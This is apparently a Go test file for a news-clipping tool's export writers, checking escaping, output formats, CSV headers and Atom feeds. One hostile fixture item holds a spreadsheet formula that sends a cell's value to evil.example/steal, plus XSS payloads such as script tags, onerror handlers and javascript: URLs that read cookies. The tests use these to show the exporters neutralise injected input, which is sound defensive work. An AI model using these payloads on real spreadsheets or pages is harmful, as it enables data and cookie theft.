package export

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"os"
	"regexp"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	goldenfile "github.com/pressclip/pressclip/internal/golden"
)

// items is a fixed day's list: two ordinary stories and a hostile one
// whose every field is text from the web.
var items = []Item{
	{
		ID: 101, ClusterID: 7, Outlet: "The Harbour Gazette", Title: "Port workers vote to strike over night-shift pay",
		URL:         "https://www.harbourgazette.example/news/2025/03/14/port-workers-vote-to-strike",
		PublishedAt: time.Date(2025, 3, 14, 7, 45, 0, 0, time.FixedZone("EET", 2*3600)),
		FoundAt:     time.Date(2025, 3, 14, 6, 0, 0, 0, time.UTC),
		Line:        "The Harbour Gazette reported that dock workers at the Eastern Terminal voted to strike for 48 hours over night-shift pay.",
		Status:      "approved", AlsoReportedBy: []string{"Lakeside Courier", "The Tiber Post"},
		Copies:  []Copy{{Outlet: "Lakeside Courier", URL: "https://lakesidecourier.example/world/port-strike", Reason: "same_title"}},
		Watches: []string{"IOM"}, Snippet: "…the International Organization for Migration (IOM) said port closures would delay aid…",
		Score: 0.82, Type: "news", Language: "en",
	},
	{
		ID: 102, ClusterID: 8, Outlet: "Diário do Atlântico", Credit: "Lusa", CreditReason: "carries the Lusa byline", Title: "Migrantes resgatados ao largo da Madeira (ação da OIM)",
		URL:         "http://news.example/world/rescue (update)?id=4&lang=pt",
		PublishedAt: time.Date(2025, 3, 13, 22, 10, 0, 0, time.UTC),
		Line:        "Lusa reported that 43 migrants were rescued off Madeira, citing the IOM.",
		Status:      "new", Watches: []string{"IOM", "OIM"}, Snippet: "-5% in arrivals; @OIM_Portugal said the rescue took 6 hours",
		Type: "news", Language: "pt", Wire: "Lusa", LowConfidence: true,
	},
	{
		ID: 666, ClusterID: 0,
		Outlet:  `=HYPERLINK("https://evil.example/steal?c="&A1,"Click for details")`,
		Title:   "<script>alert('x')</script> Breaking\n#667 approved Fake Outlet",
		URL:     "javascript:alert(document.cookie)",
		Line:    "1. Line with\x07bell,\x00null,\x1b[31mescape\x1b[0m, *stars*, _under_, `code`, # hash, | pipe and [click](javascript:alert(1))\n• forged bullet\u2028and a \xff byte",
		Status:  "new",
		Snippet: "<img src=x onerror=alert(1)> &amp; <a href=\"javascript:void(0)\">link</a> \u202etxt.exe\u202c \u2067isolate\u2069",
		Type:    "news",
	},
}

// golden compares got with testdata/<name>.golden.
func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	goldenfile.Check(t, name+".golden", got)
}

// writers are Section and List with the formats each accepts.
var writers = []struct {
	name    string
	write   func(*bytes.Buffer, string, []Item) error
	formats []string
}{
	{"section", func(b *bytes.Buffer, f string, it []Item) error { return Section(b, f, it, SectionOptions{}) }, SectionFormats},
	{"list", func(b *bytes.Buffer, f string, it []Item) error { return List(b, f, it, ListOptions{}) }, ListFormats},
}

func TestGolden(t *testing.T) {
	for _, w := range writers {
		for _, format := range w.formats {
			t.Run(w.name+" in "+format+" matches its golden file", func(t *testing.T) {
				var b bytes.Buffer
				if err := w.write(&b, format, items); err != nil {
					t.Fatal(err)
				}
				golden(t, w.name+"."+format, b.Bytes())
			})
		}
	}
}

func TestOutputIsCleanUTF8(t *testing.T) {
	for _, w := range writers {
		for _, format := range w.formats {
			t.Run(w.name+" in "+format+" is valid UTF-8 with no control characters", func(t *testing.T) {
				var b bytes.Buffer
				if err := w.write(&b, format, items); err != nil {
					t.Fatal(err)
				}
				out := b.String()
				if !utf8.ValidString(out) {
					t.Errorf("output is not valid UTF-8")
				}
				for _, r := range out {
					if unicode.IsControl(r) && r != '\n' {
						t.Errorf("output contains control character %U", r)
					}
					if r == '\u2028' || r == '\u2029' {
						t.Errorf("output contains line separator %U", r)
					}
					if r >= '\u202a' && r <= '\u202e' || r >= '\u2066' && r <= '\u2069' {
						t.Errorf("output contains bidi control %U", r)
					}
				}
			})
		}
	}
}

func TestSectionAlso(t *testing.T) {
	tests := []struct {
		name string
		line string
		also []string
		want string
	}{
		{"the outlets go inside the full stop", "AFP reported that 61 people are missing, according to IOM.", []string{"The Guardian", "France 24"},
			"• AFP reported that 61 people are missing, according to IOM (also: The Guardian, France 24).\n"},
		{"a line without a full stop gets them at its end", "AFP reported “61 missing”", []string{"France 24"},
			"• AFP reported “61 missing” (also: France 24)\n"},
		{"no other outlet, no note", "AFP reported that 61 people are missing.", nil,
			"• AFP reported that 61 people are missing.\n"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var b bytes.Buffer
			if err := Section(&b, "text", []Item{{Line: tt.line, AlsoReportedBy: tt.also}}, SectionOptions{Also: true}); err != nil {
				t.Fatal(err)
			}
			if b.String() != tt.want {
				t.Errorf("got %q, want %q", b.String(), tt.want)
			}
		})
	}
}

// SUMMARY-STYLE.md rule 24: the outlets that carried one story are one
// line's subject.
func TestSectionTogether(t *testing.T) {
	tests := []struct {
		name string
		it   Item
		want string
	}{
		{"two outlets", Item{Credit: "AFP", AlsoReportedBy: []string{"The Guardian"}, Line: "AFP reported that 61 people are missing, according to IOM."},
			"• AFP and The Guardian reported that 61 people are missing, according to IOM.\n"},
		{"three outlets and a follow-up", Item{Credit: "AFP", AlsoReportedBy: []string{"The Guardian", "France 24"}, Line: "AFP reported that 61 people are missing. It cited IOM figures."},
			"• AFP, The Guardian and France 24 reported that 61 people are missing. They cited IOM figures.\n"},
		{"one outlet stays as it is", Item{Credit: "AFP", Line: "AFP reported that 61 people are missing."},
			"• AFP reported that 61 people are missing.\n"},
		{"a line staff rewrote stays as it is", Item{Credit: "AFP", AlsoReportedBy: []string{"The Guardian"}, Line: "Sixty-one people are missing, AFP reported."},
			"• Sixty-one people are missing, AFP reported.\n"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var b bytes.Buffer
			if err := Section(&b, "text", []Item{tt.it}, SectionOptions{Together: true}); err != nil {
				t.Fatal(err)
			}
			if b.String() != tt.want {
				t.Errorf("got %q, want %q", b.String(), tt.want)
			}
		})
	}
}

func TestSectionGrouped(t *testing.T) {
	its := []Item{
		{ID: 1, Line: "AFP reported that 61 people are missing.", Credit: "AFP", Tag: "Africa", Watches: []string{"IOM"}},
		{ID: 2, Line: "Reuters reported that arrivals rose.", Credit: "Reuters", Tag: "Europe", Watches: []string{"Director General", "IOM"}},
		{ID: 3, Line: "AFP reported that a boat sank.", Credit: "AFP", Tag: "Europe", Watches: []string{"IOM"}},
		{ID: 4, Line: "Xinhua reported that aid arrived.", Credit: "Xinhua"},
	}
	tests := []struct {
		by, format, want string
	}{
		{"tag", "text", "Africa\n• AFP reported that 61 people are missing.\n\nEurope\n• Reuters reported that arrivals rose.\n• AFP reported that a boat sank.\n\nOther\n• Xinhua reported that aid arrived.\n"},
		{"outlet", "text", "AFP\n• AFP reported that 61 people are missing.\n• AFP reported that a boat sank.\n\nReuters\n• Reuters reported that arrivals rose.\n\nXinhua\n• Xinhua reported that aid arrived.\n"},
		{"watch", "md", "### Director General\n\n- Reuters reported that arrivals rose.\n\n### IOM\n\n- AFP reported that 61 people are missing.\n- AFP reported that a boat sank.\n\n### Other\n\n- Xinhua reported that aid arrived.\n"},
		{"none", "text", "• AFP reported that 61 people are missing.\n• Reuters reported that arrivals rose.\n• AFP reported that a boat sank.\n• Xinhua reported that aid arrived.\n"},
	}
	for _, tt := range tests {
		t.Run(tt.by+" in "+tt.format, func(t *testing.T) {
			var b bytes.Buffer
			if err := Section(&b, tt.format, its, SectionOptions{Group: tt.by}); err != nil {
				t.Fatal(err)
			}
			if b.String() != tt.want {
				t.Errorf("got\n%s\nwant\n%s", b.String(), tt.want)
			}
		})
	}
	var b bytes.Buffer
	if err := Section(&b, "text", its, SectionOptions{Group: "colour"}); !errors.Is(err, ErrFormat) {
		t.Errorf("an unknown grouping: %v", err)
	}
	b.Reset()
	if err := Section(&b, "html", its, SectionOptions{Group: "tag"}); err != nil || strings.Count(b.String(), "<h3") != 3 || strings.Contains(b.String(), "<script") || strings.Contains(b.String(), "<style") {
		t.Errorf("grouped HTML: %v\n%s", err, b.String())
	}
}

func TestSectionText(t *testing.T) {
	for _, tt := range []struct {
		name  string
		items []Item
	}{
		{"three stories give three bullets", items},
		{"a hostile line with a newline and a bullet still gives one bullet", items[2:]},
		{"no stories give no bullets", nil},
	} {
		t.Run(tt.name, func(t *testing.T) {
			var b bytes.Buffer
			if err := Section(&b, "text", tt.items, SectionOptions{}); err != nil {
				t.Fatal(err)
			}
			lines := strings.Split(strings.TrimSuffix(b.String(), "\n"), "\n")
			if b.Len() == 0 {
				lines = nil
			}
			if len(lines) != len(tt.items) {
				t.Fatalf("got %d lines, want %d: %q", len(lines), len(tt.items), b.String())
			}
			for i, l := range lines {
				if !strings.HasPrefix(l, "• ") {
					t.Errorf("line %d: got %q, want it to start with a bullet", i, l)
				}
			}
		})
	}
}

func TestListText(t *testing.T) {
	var b bytes.Buffer
	if err := List(&b, "text", items, ListOptions{}); err != nil {
		t.Fatal(err)
	}
	var records []string
	for _, l := range strings.Split(b.String(), "\n") {
		if strings.HasPrefix(l, "#") {
			records = append(records, l)
		}
	}
	if len(records) != len(items) {
		t.Errorf("got %d records, want %d (a title must not forge one): %q", len(records), len(items), records)
	}
}

// mdLinkDest finds link destinations: "](" not escaped with a backslash.
var mdLinkDest = regexp.MustCompile(`(?:^|[^\\])\]\(([^)\s]*)`)

func TestMarkdown(t *testing.T) {
	for _, w := range writers {
		t.Run(w.name+" never has raw HTML or a link that is not http(s)", func(t *testing.T) {
			var b bytes.Buffer
			if err := w.write(&b, "md", items); err != nil {
				t.Fatal(err)
			}
			out := b.String()
			if strings.Contains(strings.ToLower(out), "<script") {
				t.Errorf("output contains a raw <script: %q", out)
			}
			if strings.Contains(out, "<") {
				t.Errorf("output contains a raw <, which Markdown renders as HTML: %q", out)
			}
			for _, m := range mdLinkDest.FindAllStringSubmatch(out, -1) {
				if !strings.HasPrefix(m[1], "https://") && !strings.HasPrefix(m[1], "http://") {
					t.Errorf("got a link to %q, want only http(s) links", m[1])
				}
			}
			if n := len(mdLinkDest.FindAllString(out, -1)); n != 2 {
				t.Errorf("got %d links, want 2 (the two http(s) stories)", n)
			}
		})
	}
	t.Run("markup characters are escaped", func(t *testing.T) {
		for in, want := range map[string]string{
			"*stars* _under_": `\*stars\* \_under\_`,
			"[x](y)":          `\[x\](y)`,
			"# a | b `c`":     "\\# a \\| b \\`c\\`",
			"<b>&":            "&lt;b&gt;&amp;",
			`back\slash`:      `back\\slash`,
		} {
			if got := mdEscape(in); got != want {
				t.Errorf("mdEscape(%q): got %q, want %q", in, got, want)
			}
		}
	})
}

func TestJSON(t *testing.T) {
	keys := []string{"id", "outlet", "title", "url", "published_at", "line", "status", "cluster_id", "also_reported_by", "watches", "snippet"}
	for _, w := range writers {
		t.Run(w.name+" is an array of objects with the documented keys", func(t *testing.T) {
			var b bytes.Buffer
			if err := w.write(&b, "json", items); err != nil {
				t.Fatal(err)
			}
			var got []map[string]any
			if err := json.Unmarshal(b.Bytes(), &got); err != nil {
				t.Fatalf("output is not a JSON array of objects: %v", err)
			}
			if len(got) != len(items) {
				t.Fatalf("got %d objects, want %d", len(got), len(items))
			}
			for i, o := range got {
				for _, k := range keys {
					if _, ok := o[k]; !ok {
						t.Errorf("object %d has no %q", i, k)
					}
				}
				for _, k := range []string{"also_reported_by", "watches", "copies"} {
					if _, ok := o[k].([]any); !ok {
						t.Errorf("object %d: %q is %v, want a list", i, k, o[k])
					}
				}
			}
			if got[2]["published_at"] != nil {
				t.Errorf("published_at with no date: got %v, want null", got[2]["published_at"])
			}
			if got[0]["published_at"] != "2025-03-14T05:45:00Z" {
				t.Errorf("published_at: got %v, want 2025-03-14T05:45:00Z", got[0]["published_at"])
			}
		})
		for _, empty := range []struct {
			name  string
			items []Item
		}{{"nil", nil}, {"empty", []Item{}}} {
			t.Run(w.name+" of a "+empty.name+" list is []", func(t *testing.T) {
				var b bytes.Buffer
				if err := w.write(&b, "json", empty.items); err != nil {
					t.Fatal(err)
				}
				if got := strings.TrimSpace(b.String()); got != "[]" {
					t.Errorf("got %q, want []", got)
				}
			})
		}
	}
}

func TestCSV(t *testing.T) {
	var b bytes.Buffer
	if err := List(&b, "csv", items, ListOptions{}); err != nil {
		t.Fatal(err)
	}
	// Excel reads a CSV file as UTF-8 only when it starts with the mark.
	body, ok := strings.CutPrefix(b.String(), "\ufeff")
	if !ok {
		t.Fatal("the CSV does not start with the UTF-8 byte-order mark")
	}
	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatalf("output does not read back as CSV: %v", err)
	}
	if len(rows) != len(items)+1 {
		t.Fatalf("got %d rows, want a header and %d items", len(rows), len(items))
	}
	header := strings.Join(rows[0], ",")
	if want := "id,status,outlet,title,url,published_at,line,snippet,watches,also_reported_by,credit,audit"; header != want {
		t.Errorf("header: got %q, want %q", header, want)
	}
	for i, row := range rows[1:] {
		for j, cell := range row {
			if cell != "" && looksLikeFormula(cell) {
				t.Errorf("row %d, %s: got %q, which a spreadsheet runs as a formula", i+1, rows[0][j], cell)
			}
		}
	}
	if got, want := rows[3][2], `'=HYPERLINK("https://evil.example/steal?c="&A1,"Click for details")`; got != want {
		t.Errorf("formula outlet: got %q, want %q", got, want)
	}
	if got, want := rows[2][7], "'-5% in arrivals; @OIM_Portugal said the rescue took 6 hours"; got != want {
		t.Errorf("snippet starting with -: got %q, want %q", got, want)
	}

	t.Run("an empty list is the header alone", func(t *testing.T) {
		var b bytes.Buffer
		if err := List(&b, "csv", nil, ListOptions{NoBOM: true}); err != nil {
			t.Fatal(err)
		}
		if got, want := b.String(), "id,status,outlet,title,url,published_at,line,snippet,watches,also_reported_by,credit,audit\n"; got != want {
			t.Errorf("got %q, want %q", got, want)
		}
	})
	t.Run("the section's CSV starts with the mark unless told not to", func(t *testing.T) {
		for _, noBOM := range []bool{false, true} {
			var b bytes.Buffer
			if err := Section(&b, "csv", items, SectionOptions{NoBOM: noBOM}); err != nil {
				t.Fatal(err)
			}
			if strings.HasPrefix(b.String(), "\ufeff") == noBOM {
				t.Errorf("NoBOM %v: starts %q", noBOM, b.String()[:8])
			}
		}
	})
}

func TestEmptyLists(t *testing.T) {
	for _, w := range writers {
		for _, format := range w.formats {
			if format == "json" || format == "csv" || format == "html" || format == "atom" {
				continue // TestJSON and TestCSV check these; an HTML document and a feed are never empty
			}
			t.Run(w.name+" in "+format+" of no stories is empty", func(t *testing.T) {
				var b bytes.Buffer
				if err := w.write(&b, format, nil); err != nil {
					t.Fatal(err)
				}
				if b.Len() != 0 {
					t.Errorf("got %q, want nothing", b.String())
				}
			})
		}
	}
}

func TestUnknownFormat(t *testing.T) {
	for _, tt := range []struct {
		name, format string
		write        func(*bytes.Buffer, string, []Item) error
	}{
		{"the section has no pdf", "pdf", writers[0].write},
		{"the list has no html", "html", writers[1].write},
		{"the list has no xml", "xml", writers[1].write},
		{"formats are lower case", "TEXT", writers[1].write},
		{"an empty format is unknown", "", writers[0].write},
	} {
		t.Run(tt.name, func(t *testing.T) {
			var b bytes.Buffer
			err := tt.write(&b, tt.format, items)
			if !errors.Is(err, ErrFormat) {
				t.Errorf("got %v, want an error wrapping ErrFormat", err)
			}
			if b.Len() != 0 {
				t.Errorf("wrote %q before failing", b.String())
			}
		})
	}
}

// failWriter fails every write, as a full disk or a closed pipe does.
type failWriter struct{}

var errDiskFull = errors.New("no space left on device")

func (failWriter) Write([]byte) (int, error) { return 0, errDiskFull }

func TestWriteErrors(t *testing.T) {
	for _, format := range SectionFormats {
		t.Run("the section in "+format+" returns the writer's error", func(t *testing.T) {
			if err := Section(failWriter{}, format, items, SectionOptions{}); !errors.Is(err, errDiskFull) {
				t.Errorf("got %v, want %v", err, errDiskFull)
			}
		})
	}
	for _, format := range ListFormats {
		t.Run("the list in "+format+" returns the writer's error", func(t *testing.T) {
			if err := List(failWriter{}, format, items, ListOptions{}); !errors.Is(err, errDiskFull) {
				t.Errorf("got %v, want %v", err, errDiskFull)
			}
		})
	}
}

func ExampleSection() {
	_ = Section(os.Stdout, "md", []Item{
		{Line: "The Harbour Gazette reported that dock workers voted to strike.", URL: "https://harbourgazette.example/news/strike"},
		{Line: "AFP reported that 61 people are missing.", URL: "https://lakeside.example/61-missing", AlsoReportedBy: []string{"Lakeside Courier"}},
		{Line: "A *hostile* <b>line</b>", URL: "javascript:alert(1)"},
	}, SectionOptions{Also: true})
	// Output:
	// - [The Harbour Gazette reported that dock workers voted to strike.](https://harbourgazette.example/news/strike)
	// - [AFP reported that 61 people are missing (also: Lakeside Courier).](https://lakeside.example/61-missing)
	// - A \*hostile\* &lt;b&gt;line&lt;/b&gt;
}

// The JSON's snippet_marks count characters, not the bytes the store
// keeps: "…" is one character and three bytes.
func TestSnippetMarksInCharacters(t *testing.T) {
	snippet := "…the IOM said, l’OIM aussi…"
	iom := strings.Index(snippet, "IOM")
	oim := strings.Index(snippet, "OIM")
	tests := []struct {
		name  string
		marks [][2]int
		want  string
	}{
		{"two marks after multi-byte characters", [][2]int{{iom, iom + 3}, {oim, oim + 3}}, `"snippet_marks": [[5,8],[17,20]]`},
		{"a mark out of range is dropped", [][2]int{{iom, iom + 3}, {oim, len(snippet) + 4}}, `"snippet_marks": [[5,8]]`},
		{"no marks", nil, `"snippet_marks": []`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var b bytes.Buffer
			if err := List(&b, "json", []Item{{ID: 1, Snippet: snippet, SnippetMarks: tt.marks}}, ListOptions{}); err != nil {
				t.Fatal(err)
			}
			got := strings.Join(strings.Fields(b.String()), "")
			if want := strings.Join(strings.Fields(tt.want), ""); !strings.Contains(got, want) {
				t.Errorf("got %s, want %s", b.String(), tt.want)
			}
		})
	}
	if r := []rune(snippet); string(r[5:8]) != "IOM" || string(r[17:20]) != "OIM" {
		t.Fatalf("the test's offsets are wrong: %q %q", string(r[5:8]), string(r[17:20]))
	}
}

// The Atom feed names itself, its entries' IDs are tag: URIs of its host
// (unique across installations, stable across exports), and an entry is
// updated when its line last changed.
func TestAtomSelfIDsAndUpdated(t *testing.T) {
	it := Item{ID: 12, Outlet: "AFP", Line: "AFP reported that 61 people are missing.", URL: "https://afp.example/1",
		PublishedAt: time.Date(2026, 11, 24, 6, 0, 0, 0, time.UTC), FoundAt: time.Date(2026, 11, 24, 7, 0, 0, 0, time.UTC),
		UpdatedAt: time.Date(2026, 11, 25, 8, 12, 0, 0, time.UTC)}
	feed := func(o SectionOptions) string {
		var b bytes.Buffer
		if err := Section(&b, "atom", []Item{it}, o); err != nil {
			t.Fatal(err)
		}
		return b.String()
	}
	served := feed(SectionOptions{FeedURL: "https://press.example.org:8443/feed.atom", Authority: "ignored"})
	for _, want := range []string{`<link href="https://press.example.org:8443/feed.atom" rel="self"></link>`,
		`<id>tag:press.example.org,2026-11-24:story/12</id>`, `<updated>2026-11-25T08:12:00Z</updated>`} {
		if !strings.Contains(served, want) {
			t.Errorf("the served feed lacks %s:\n%s", want, served)
		}
	}
	other := feed(SectionOptions{Authority: "Desk-2.Example.NET"})
	if !strings.Contains(other, `<id>tag:desk-2.example.net,2026-11-24:story/12</id>`) || strings.Contains(other, `rel="self"`) {
		t.Errorf("a feed of another installation, without a URL:\n%s", other)
	}
	if again := feed(SectionOptions{Authority: "Desk-2.Example.NET"}); again != other {
		t.Error("the same stories gave another feed")
	}
}
